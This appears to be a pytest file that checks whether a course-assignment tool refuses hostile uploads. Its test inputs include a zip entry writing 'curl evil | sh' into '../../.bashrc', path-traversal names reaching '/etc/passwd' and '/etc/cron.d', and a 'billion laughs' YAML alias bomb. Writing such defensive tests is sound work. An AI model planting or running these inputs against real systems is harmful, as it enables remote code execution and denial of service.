"""Paths and YAML that come from uploads, on the tool's side: a hostile autograder zip added by the operator's
command line or uploaded by course staff is refused with its entry named and nothing stored or written; and
every other name an upload turns into a path (the ASSIGNMENT CONFIG's files, the student's folder zip, what
`otter assign` wrote, what students download) is checked, as are the YAML documents."""

from __future__ import annotations

import io
import json
import tarfile
from html import unescape
from pathlib import Path

import pytest

from lti_service.assignments import confined
from lti_service.assignments.building import BuildError, from_zip, listed_files, master_config, pack_handout
from lti_service.assignments.builds import pack
from lti_service.assignments.confined import ConfinementError
from testbed.lms import finished_build, staff_page, upload_zip
from testbed.tool import ToolProcess
from tests.hostile_zips import hostile_zip

TOOL_ENV = {"COURSE_ASSIGNMENTS": "1"}  # course staff add their own assignments
THROUGH_THE_TOOL = ["dot-dot", "absolute-after-the-prefix", "symbolic-link", "nul"]


def student_notebook(student: Path, name: str) -> bytes:
    """The built student notebook, made a notebook of the assignment `name`."""
    notebook = json.loads(student.read_text())
    notebook["metadata"]["otter"]["assignment_name"] = name
    return json.dumps(notebook).encode()


@pytest.fixture(scope="module")
def tool(tmp_path_factory) -> ToolProcess:
    return ToolProcess(tmp_path_factory.mktemp("tool"))


@pytest.mark.parametrize("case", THROUGH_THE_TOOL)
def test_the_operator_command_refuses_a_hostile_zip(tool, built_assignment, tmp_path, case):
    name = f"hostile_{case.replace('-', '_')}"
    zip_path, refusal = hostile_zip(built_assignment["zip"], tmp_path, case, name)
    student = tmp_path / f"{name}.ipynb"
    student.write_bytes(student_notebook(built_assignment["student"], name))
    error = tool.cli_fails("assignment", "add", "--zip", str(zip_path), "--student", str(student))
    assert f"nothing was stored: cannot read the zip: {refusal}" in error
    assert name not in tool.cli("assignment", "list")
    assert not (tmp_path / "canary").exists()


def test_a_course_upload_of_a_hostile_zip_is_refused(lms, built_assignment, tmp_path):
    staff = staff_page(lms, "paths-1")
    for case in THROUGH_THE_TOOL:
        name = f"hostile_{case.replace('-', '_')}"
        zip_path, refusal = hostile_zip(built_assignment["zip"], tmp_path, case, name)
        student = student_notebook(built_assignment["student"], name)
        report = unescape(finished_build(staff, upload_zip(staff, zip_path.read_bytes(), student, f"{name}.ipynb")))
        assert "The build failed: nothing was stored." in report and f"cannot read the zip: {refusal}" in report
    assert "hostile" not in staff.session.get(f"{staff.url}/assignments", timeout=10).text
    assert not (tmp_path / "canary").exists()


def test_a_zip_of_the_students_folder_with_an_unsafe_entry_is_refused(built_assignment):
    """Students download it as it is: unpacked, it must stay in its folder."""
    folder = pack({"decode.ipynb": built_assignment["student"].read_bytes(), "../../.bashrc": b"curl evil | sh"})
    with pytest.raises(
        BuildError, match=r"the zip of the student's folder cannot be used: the entry '\.\./\.\./\.bashrc' goes up"
    ):
        from_zip(built_assignment["zip"].read_bytes(), folder, "decode.zip", lambda step: None)


@pytest.mark.parametrize(
    "path", ["../data.csv", "/etc/passwd", "data//grades.csv", "data/a\x00.csv", "data\\grades.csv"]
)
def test_an_assignment_config_listing_an_unsafe_path_is_refused(path):
    with pytest.raises(BuildError, match="the ASSIGNMENT CONFIG lists a path that cannot be used: '"):
        listed_files({"name": "lab", "files": ["data/grades.csv", path]})
    assert listed_files({"name": "lab", "files": ["data/"], "autograder_files": ["data/", "tests.csv"]}) == [
        "data",
        "tests.csv",
    ]


def tar_of(*names: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name in names:
            archive.addfile(tarfile.TarInfo(name), io.BytesIO(b""))
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("names", "reason"),
    [
        (["./student/lab.ipynb", "./student/../../../etc/cron.d/x"], "goes up out of its folder"),
        (["./student/a\nb.csv"], "has a control character"),
        (["./student/lab.ipynb", "student/lab.ipynb"], "appears twice"),
    ],
)
def test_what_the_confined_build_sends_back_with_an_unsafe_name_is_refused(names, reason):
    """A process `otter assign` left running can write into the tar stream the build sends back."""
    with pytest.raises(ConfinementError, match=f"what it wrote cannot be used: the entry '.*' {reason}"):
        confined._files(tar_of(*names))
    assert confined._files(tar_of("./student/lab.ipynb", "./autograder/x.zip")) == {
        "student/lab.ipynb": b"",
        "autograder/x.zip": b"",
    }


def test_what_students_download_holds_only_safe_names():
    with pytest.raises(BuildError, match="a file of what students download cannot be used: '../x.py' goes up"):
        pack_handout("lab.ipynb", {"lab.ipynb": b"{}", "../x.py": b""})


def master(config: str) -> bytes:
    cell = {"cell_type": "raw", "metadata": {}, "source": f"# ASSIGNMENT CONFIG\n{config}"}
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


LAUGHS = "\n".join(
    [f"l0: &l0 [{', '.join(['lol'] * 10)}]"]
    + [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 10)}]" for i in range(1, 4)]
    + ["name: laughs", "files: *l3"]
)


@pytest.mark.parametrize(
    ("config", "reason"),
    [
        (LAUGHS, r"uses a YAML alias \(a '\*name', line 2\)"),
        ("name: lab\nfiles:\n" + "  - data.csv\n" * 20_000, "is longer than 131072 characters"),
        ("name: lab\nnested: " + "[" * 60 + "]" * 60, "is nested more than 50 levels deep"),
        ("name: [unclosed", "is not valid YAML"),
    ],
    ids=["aliases", "too-long", "too-deep", "invalid"],
)
def test_an_assignment_config_is_read_within_bounds(config, reason):
    """yaml.safe_load takes aliases: a few hundred bytes of them ("billion laughs") expand beyond any memory."""
    with pytest.raises(BuildError, match=f"the ASSIGNMENT CONFIG cell {reason}"):
        master_config(master(config))
    assert master_config(master("name: lab\nfiles:\n  - data.csv\n")) == {"name": "lab", "files": ["data.csv"]}
